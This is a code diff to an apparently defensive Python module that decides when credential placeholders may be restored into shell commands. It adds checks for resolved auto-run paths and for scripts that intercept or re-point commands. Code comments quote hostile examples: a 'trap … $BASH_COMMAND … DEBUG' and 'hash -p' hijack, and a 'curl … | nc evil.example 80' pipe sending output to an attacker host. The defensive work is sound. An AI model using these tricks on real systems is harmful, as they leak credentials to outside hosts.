@@ -32,14 +32,14 @@ from ..._data import data_path, load_toml
 from ...policy import RestoreSettings
 from ...vault import PLACEHOLDER_RE, Vault
 from . import credentials
-from .commands import analyse, argv_source, reread
+from .commands import analyse, argv_source, reread, script_changer
 from .destinations import Destinations, ShellRules, destinations
 from .dialects import (CMD, POSIX, POWERSHELL, UNKNOWN_SHELL, Dialect, decode_encoded_command, dialect_for, mentions,
                        names_windows_shell, powershell_call, powershell_evaluators, restore_script, shell_facts,
                        tool_dialect)
 from .dialects.nesting import last_word_start, replace_last_word
 from .dialects.posix_grammar import Script, command_at, parse
-from .files import auto_run, match_field, normalise, patch_files, patch_section_is_script, target_path
+from .files import auto_run, match_field, normalise, patch_files, patch_section_is_script, resolved, target_path
 from .urls import for_position, url_component
 
 
@@ -259,7 +259,7 @@ class ToolRestorer:
             _, _, read = source.partition(":")
             if read and normalise(read) == target:
                 return None
-        pattern = auto_run(path)
+        pattern = auto_run(path) or auto_run(resolved(path))
         if pattern is not None:
             return f"{path.rsplit('/', 1)[-1][:60]} runs by itself or is code ({pattern})"
         if content is not None and content.lstrip().startswith("#!"):
@@ -322,6 +322,9 @@ class ToolRestorer:
             why = credentials.decide(script, offset, ph, self.allowed_host(ph), command_at)
             if why is not None:
                 return why
+            changer = script_changer(script)
+            if changer:  # trap '… $BASH_COMMAND …' DEBUG, hash -p ./x curl: the script sees or re-points the call
+                return f"the script uses {changer}, which can see or change what the credential's command does"
             # the rest of the script must not reach anywhere else either: a pipe or a redirection can carry what
             # the credential's command prints (``curl … 2>&1 | nc evil.example 80``)
             if not dest:
